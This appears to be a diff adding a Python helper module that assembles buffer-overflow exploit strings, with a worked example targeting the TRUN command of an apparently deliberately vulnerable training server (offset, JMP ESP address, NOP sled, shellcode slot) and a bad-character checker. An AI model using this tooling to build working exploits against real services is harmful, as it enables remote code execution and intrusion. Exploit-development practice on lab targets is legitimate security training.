@@ -0,0 +1,128 @@
+#Payload builder for exploit.py and the custom-payload scripts
+#
+#An exploit string is described as a list of parts instead of being glued
+#together with + and +=:
+#
+#	layout = [
+#		Fill(b"A", 2006, "garbage"),		#up to the saved return address
+#		Raw(address(0x625011af), "ret"),	#a JMP ESP in essfunc.dll
+#		Fill(b"\x90", 24, "nop"),		#NOP sled
+#		Raw(shellcode, "shellcode"),
+#		FillTo(b"A", 3000, "tail"),		#keep the string 3000 bytes long
+#	]
+#	badbuf = build(layout, prefix=b"TRUN .", suffix=b"\r\n")
+#
+#build() sizes every part first, allocates the whole string once and
+#writes each part into its slice of the buffer through a memoryview. The
+#finished payload is then searched for bad characters in one regex scan,
+#and every bad byte is reported with its offset and the part it is in.
+#The prefix and suffix are the command around the payload and are not
+#checked: "\r\n" is usually a bad character, but it has to be sent.
+
+import re
+import struct
+
+#Bytes that cut the string short before it reaches the overflow.
+#msfvenom -b takes the same list.
+BADCHARS = b"\x00"
+
+
+class Raw:
+
+	#Bytes copied as they are: a return address, shellcode, ...
+
+	def __init__(self, data, name="raw"):
+		self.data = bytes(data)
+		self.name = name
+
+	def size(self, offset):
+		return len(self.data)
+
+	def write(self, view):
+		view[:] = self.data
+
+
+class Fill:
+
+	#`count` copies of one byte: garbage, a NOP sled, ...
+
+	def __init__(self, byte, count, name="fill"):
+		if len(byte) != 1:
+			raise ValueError("%s: fill must be a single byte, not %r" % (name, byte))
+		self.byte = bytes(byte)
+		self.count = count
+		self.name = name
+
+	def size(self, offset):
+		return self.count
+
+	def write(self, view):
+		view[:] = self.byte * len(view)
+
+
+class FillTo(Fill):
+
+	#Pad with one byte until the payload is `length` bytes long, e.g. to
+	#keep the crashing length found by the fuzzer
+
+	def __init__(self, byte, length, name="tail"):
+		Fill.__init__(self, byte, length, name)
+
+	def size(self, offset):
+		if offset > self.count:
+			raise ValueError("%s: payload is already %i bytes, longer than %i" % (self.name, offset, self.count))
+		return self.count - offset
+
+
+def address(value):
+	#A 32 bit address as it sits in memory on x86 (little endian), e.g.
+	#address(0x625011af) == b"\xaf\x11\x50\x62"
+	return struct.pack("<I", value)
+
+
+def find_badchars(data, badchars=BADCHARS, start=0, end=None):
+	#(offset, byte) of every bad character in data[start:end], in one scan
+	if not badchars:
+		return []
+	pattern = re.compile(b"[" + b"".join(re.escape(bytes([byte])) for byte in badchars) + b"]")
+	if end is None:
+		end = len(data)
+	return [(match.start(), data[match.start()]) for match in pattern.finditer(data, start, end)]
+
+
+def build(layout, prefix=b"", suffix=b"", badchars=BADCHARS):
+	#Assemble prefix + parts + suffix into one bytearray. Raises ValueError
+	#if a part contains a bad character.
+	sizes = []
+	offset = 0
+	for part in layout:
+		#Sized in order, since FillTo depends on where it starts
+		size = part.size(offset)
+		sizes.append(size)
+		offset += size
+
+	start = len(prefix)
+	end = start + offset
+	buf = bytearray(end + len(suffix))
+	with memoryview(buf) as view:
+		view[:start] = prefix
+		pos = start
+		for part, size in zip(layout, sizes):
+			part.write(view[pos:pos + size])
+			pos += size
+		view[end:] = suffix
+
+	found = find_badchars(buf, badchars, start, end)
+	if found:
+		problems = []
+		for pos, byte in found[:10]:
+			pos -= start
+			#Find the part this offset falls in
+			for part, size in zip(layout, sizes):
+				if pos < size:
+					break
+				pos -= size
+			problems.append("\\x%02x at %i in %s" % (byte, pos, part.name))
+		more = " (and %i more)" % (len(found) - 10) if len(found) > 10 else ""
+		raise ValueError("bad characters in payload: %s%s" % (", ".join(problems), more))
+	return buf